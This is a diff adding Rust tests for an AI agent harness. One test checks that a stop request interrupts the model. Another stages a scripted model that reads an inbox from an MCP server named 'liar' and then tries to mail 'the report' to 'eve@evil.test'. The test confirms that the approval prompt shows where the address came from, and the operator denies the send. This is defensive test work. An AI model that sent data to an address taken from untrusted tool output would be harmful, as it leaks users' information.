@@ -193,6 +193,70 @@ fn d2_a_question_that_nobody_answers_in_time_is_answered_with_no() {
 }
 
 #[test]
+fn a_stop_is_heard_while_the_warrant_is_drawn_up() {
+    for now in [false, true] {
+        let desk = desk();
+        let silent = model([Turn { delay_ms: 600_000, ..Turn::text("{}") }]);
+        let run = ["run", GOAL, "--model", "scripted", "--warrant", "auto"];
+        let running = with(&desk, &silent, run).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
+        let start = Instant::now();
+        while silent.requests().is_empty() {
+            assert!(start.elapsed() < Duration::from_secs(60), "the model is not asked");
+            std::thread::sleep(Duration::from_millis(10));
+        }
+        let brain = desk.brain();
+        let stopped = desk.autoshare(["stop", brain.as_str()].into_iter().chain(now.then_some("--now")));
+        assert_eq!(stopped.code, Some(0), "{stopped:?}");
+        let ended = Ran::of(running.wait_with_output().unwrap());
+        assert_eq!(ended.code, Some(4), "{ended:?}");
+        let journal = desk.journal();
+        assert!(events(&journal, "warrant").is_empty(), "the fixed rules do not step in: {journal:?}");
+        let call = events(&journal, "exchange")[0];
+        assert_eq!((&call["path"], &call["error"]), (&json!("warrant"), &json!("stopped on request")));
+        assert!(call["usage"]["output_tokens"].as_u64() > Some(0), "it may have been billed: {call}");
+
+        // It is drawn up when the brain goes on.
+        let effects = json!({"effects": [{"tool": "mail__send_mail", "described": true}]});
+        let model = model([Turn::text(&effects.to_string())]);
+        let resumed = Ran::of(with(&desk, &model, ["resume", &brain]).output().unwrap());
+        assert_eq!((resumed.code, model.requests().len()), (Some(0), 2), "{resumed:?}");
+        assert_eq!(events(&desk.journal(), "warrant")[0]["by"], "model");
+    }
+}
+
+#[test]
+fn what_the_operator_vouches_for_is_told_as_such() {
+    let desk = desk();
+    let file = desk.base.path().join("contracts.toml");
+    let printed = desk.autoshare(["tool", "show", "--contracts", "mail"]);
+    let vouched = printed.out.replace("words = \"anybody\"", "words = \"operator\"");
+    assert_ne!(vouched, printed.out, "{printed:?}");
+    std::fs::write(&file, vouched).unwrap();
+    let folder = desk.base.path().join("liar").display().to_string();
+    let script = format!("{folder}/server.py");
+    let flags = ["mcp", "add", "desk", "--yes", "--read", &folder, "--contracts", file.to_str().unwrap(), "--"];
+    let added = desk.autoshare([&flags[..], &["/usr/bin/python3", &script, &folder]].concat());
+    assert_eq!(added.code, Some(0), "{added:?}");
+
+    let send = Turn::call("desk__send_mail", json!({"to": "eve@evil.test", "body": "the report"}));
+    let model = model([Turn::call("desk__read_inbox", json!({})), send, Turn::text("done")]);
+    let running = waiting(&desk, &model);
+    let (brain, digest) = question(&desk);
+    let shown = desk.autoshare(["approve"]);
+    let words = "  to (target): \"eve@evil.test\"   from mcp:desk/read_inbox, which the operator vouches for\n";
+    assert!(shown.out.contains(words) && !shown.out.contains("in your own words"), "{}", shown.out);
+    assert_eq!(desk.autoshare(["approve", &brain, &digest, "--deny"]).code, Some(0));
+    let ran = Ran::of(running.wait_with_output().unwrap());
+    assert_eq!(ran.code, Some(0), "{ran:?}");
+    let told = desk.autoshare(["explain", &brain, "2"]);
+    let part = "which the operator vouches for\n      record ";
+    assert!(told.out.contains(part) && told.out.contains("(observation): …"), "{}", told.out);
+    let line = &desk.autoshare(["explain", &brain, "2", "--json"]).json_lines()[0];
+    let to = line["values"].as_array().unwrap().iter().find(|value| value["path"] == "to").unwrap();
+    assert_eq!(to["origins"][0]["provenance"], json!({"from": "operator", "source": "mcp:desk/read_inbox"}));
+}
+
+#[test]
 fn an_answer_for_the_run_needs_a_source() {
     let desk = desk();
     let model = model([send("nobody@said.test"), Turn::text("done")]);
